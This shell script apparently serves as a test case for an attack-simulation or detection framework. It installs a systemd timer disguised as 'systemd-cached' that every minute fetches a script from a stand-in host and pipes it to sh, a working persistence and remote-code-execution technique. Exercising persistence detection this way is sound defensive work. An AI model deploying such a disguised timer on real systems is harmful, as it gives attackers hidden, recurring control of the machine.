#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/systemd/system/timers.target.wants
cat >/tmp/u <<'END'
[Service]
Type=oneshot
ExecStart=/bin/sh -c "curl -s http://203.0.113.10/payload.sh | sh"
END
printf '[Timer]\nOnBootSec=1min\nOnUnitActiveSec=1min\n' >/tmp/t
install -m 644 /tmp/u /etc/systemd/system/systemd-cached.service
install -m 644 /tmp/t /etc/systemd/system/systemd-cached.timer
ln -s ../systemd-cached.timer /etc/systemd/system/timers.target.wants/systemd-cached.timer
rm /tmp/u /tmp/t
test -e /etc/systemd/system/timers.target.wants/systemd-cached.timer
took_place
